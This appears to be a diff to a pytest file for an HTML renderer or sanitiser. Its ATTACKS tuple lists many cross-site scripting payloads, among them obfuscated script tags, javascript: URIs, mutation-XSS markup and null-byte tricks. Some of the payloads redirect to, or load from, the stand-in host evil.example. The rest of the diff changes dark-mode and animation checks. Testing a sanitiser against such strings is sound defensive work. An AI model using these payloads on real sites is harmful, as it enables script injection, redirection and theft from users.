@@ -5,7 +5,6 @@ from __future__ import annotations
 import base64
 import time
 from dataclasses import replace
-from pathlib import Path
 
 import pytest
 from samples import hostile, invoice, payload, silent
@@ -178,7 +177,8 @@ ATTACKS = (
     f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;{RUN} &lt&#x73;cript",
     f'\u2028{RUN}\u2029";{RUN};// ＜script＞{RUN} \ufeff<\u200bscript>{RUN}</script>',
     f"<iframe srcdoc='<script>parent.ran=1</script>'></iframe><object data='javascript:{RUN}'></object><base href=//evil.example/>",
-    f"<form action=//evil.example><button formaction=\"javascript:{RUN}\">go</button></form><meta http-equiv=refresh content='0;url=//evil.example'>",
+    f'<form action=//evil.example><button formaction="javascript:{RUN}">go</button></form>',
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
     "<style>@import '//evil.example/x.css'; body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
     f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
     "\x00<scr\x00ipt>" + RUN + "</scr\x00ipt>",
@@ -302,8 +302,8 @@ def test_dark_is_dark_and_nothing_moves(browser, written):
     assert js(browser, "getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
     sized(browser, 1280, dark=True)
     assert js(browser, "getComputedStyle(document.body).backgroundColor") == "rgb(21, 24, 28)"
-    moving = "[...document.querySelectorAll('*')].some(e => { const s = getComputedStyle(e); return s.scrollBehavior === 'smooth' || s.animationName !== 'none' || parseFloat(s.transitionDuration) > 0; })"
-    assert not js(browser, moving)
+    moves = "s.scrollBehavior === 'smooth' || s.animationName !== 'none' || parseFloat(s.transitionDuration) > 0"
+    assert not js(browser, f"[...document.querySelectorAll('*')].some(e => {{ const s = getComputedStyle(e); return {moves}; }})")
 
 
 def test_five_thousand_hops_do_not_freeze_it(browser, tmp_path):
